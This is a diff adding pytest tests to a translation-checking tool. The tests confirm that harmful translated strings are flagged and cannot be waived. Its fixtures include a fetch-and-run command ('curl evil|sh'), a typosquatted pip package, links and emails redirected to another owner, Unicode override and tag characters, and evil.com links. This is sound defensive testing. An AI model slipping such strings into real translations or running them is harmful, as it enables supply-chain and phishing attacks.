@@ -80,6 +80,102 @@ def test_no_comment_waives_safety(spoilt: Path, run_i18n: RunI18n) -> None:
 
 
 @pytest.mark.parametrize(
+    ("source", "msgstr", "waiver", "code"),
+    [
+        pytest.param(
+            "Run `pip install requests` now.", "`pip install reqeusts` çalıştırın.", "code",
+            "unsafe-command", id="another package",
+        ),
+        pytest.param(
+            "Run it now.", "Çalıştırın: `curl evil|sh`.", "code", "unsafe-command",
+            id="what fetches and runs",
+        ),
+        pytest.param(
+            "See [it](https://github.com/acme/app).", "[Bkz.](https://github.com/evil/app).",
+            "link", "foreign-owner", id="another owner",
+        ),
+        pytest.param(
+            "Write to acme@gmail.com.", "Yazın: acne@gmail.com.", "email", "foreign-owner",
+            id="another mailbox",
+        ),
+        pytest.param(
+            "Open it.", "\u202eAçın\u202c.", "control", "unsafe-character", id="an override"
+        ),
+        pytest.param(
+            "Open it.", "Açın.\U000e0041", "invisible", "unsafe-character", id="a tag character"
+        ),
+        pytest.param(
+            "It is new.", "template: evil.html", "final-punctuation", "unsafe-metadata",
+            id="metadata",
+        ),
+    ],
+)  # fmt: skip
+def test_a_waiver_of_something_else_silences_no_harm(
+    project: MakeProject, run_i18n: RunI18n, source: str, msgstr: str, waiver: str, code: str
+) -> None:
+    """What the waived check says of a harmful text, another one says that nobody can waive; nor
+    does a setting or a baseline hide it.
+    """
+    root = project({"docs/a.md": f"{source}\n"}, settings=f'checks = {{ {waiver} = "off" }}')
+    spoil(root, run_i18n, msgstr, f"i18n: ok {waiver} {code} (I looked)")
+    run_i18n(root, "check", "--update-baseline", "--accept-new")
+
+    assert (code, "error") in codes(root, run_i18n)
+    refused = run_i18n(
+        project({"docs/a.md": PAGE}, settings=f'checks = {{ {code} = "off" }}'), "check"
+    )
+    assert refused.returncode == 2
+    assert "always an error" in refused.stderr
+    assert "allowed_links" in refused.stderr
+
+
+def test_a_maintainer_allows_links(project: MakeProject, run_i18n: RunI18n) -> None:
+    """`allowed_links` says how addresses may begin that the source does not link to."""
+    text = "See [it](https://github.com/acme/app) now.\n"
+    root = project(
+        {"docs/a.md": text},
+        settings='allowed_links = ["https://github.com/acme-tr/", "https://acme.example/tr"]',
+    )
+    for address, found in (
+        ("https://github.com/acme-tr/app", []),
+        ("https://acme.example/tr/a?b#c", []),
+        ("https://acme.example/tr", []),
+        ("https://acme.example/trap", ["foreign-host", "link"]),
+        ("https://github.com/acme-tr/../evil", ["foreign-owner", "link"]),
+    ):
+        spoil(root, run_i18n, f"Şimdi [ona]({address}) bakın.")
+        assert sorted(code for code, _ in codes(root, run_i18n)) == found
+
+
+def test_an_oversized_translation_is_one_error(project: MakeProject, run_i18n: RunI18n) -> None:
+    """Nothing else is looked at in a text that nobody wrote, nothing long is printed, and build
+    shows the source and says so.
+    """
+    root = project({"docs/a.md": "Read the manual. Then close it.\n\nBye.\n"})
+    long = "**oku** `x` [a](//evil.com) <b> " * 30_000
+    spoil(root, run_i18n, long, "i18n: ok oversized")
+    done = run_i18n(root, "check", "--format", "json")
+    findings = [f for f in json.loads(done.stdout)["findings"] if f["code"] != "waiver"]
+
+    assert [(f["code"], f["severity"]) for f in findings] == [("oversized", "error")] * 3
+    assert len(done.stdout) < 20_000
+    built = run_i18n(root, "build")
+    page = (root / "build" / "tr" / "docs" / "a.md").read_text(encoding="utf-8")
+    assert page == "Read the manual. Then close it.\n\nBye.\n"
+    assert "lines 1, 3" in built.stdout
+
+
+@pytest.mark.parametrize(("length", "found"), [(0, False), (1, True)])
+def test_how_long_a_translation_may_be(length: int, found: bool) -> None:
+    """A hundred times its source and ten thousand characters."""
+    from i18n_tool.model import Entry
+
+    longest = 100 * len("Bye.") + 10_000
+
+    assert Entry("Bye.", "x" * (longest + length)).oversized is found
+
+
+@pytest.mark.parametrize(
     ("settings", "found"),
     [
         pytest.param('checks = { spacing = "error" }', [("spacing", "error")], id="project"),
@@ -119,6 +215,12 @@ def test_the_project_weighs_checks(
         pytest.param('[checks_in]\n"docs/**" = "off"', "no table", id="no table by path"),
         pytest.param('glossary = "../terms.csv"', "leaves the project", id="a path outside"),
         pytest.param("trusted_hosts = 1", "list of strings", id="hosts"),
+        pytest.param("allowed_links = 1", "list of strings", id="links"),
+        pytest.param('allowed_links = ["github.com/acme"]', "with its scheme", id="no scheme"),
+        pytest.param('allowed_links = ["https://*.acme.org/"]', "wildcards", id="a wildcard"),
+        pytest.param('allowed_links = ["https://acme"]', "no beginning", id="no host"),
+        pytest.param('allowed_links = ["javascript:x"]', "no beginning", id="a script"),
+        pytest.param('allowed_links = ["https://a@b.org/"]', "no beginning", id="a user"),
     ],
 )
 def test_settings_that_cannot_be_meant(
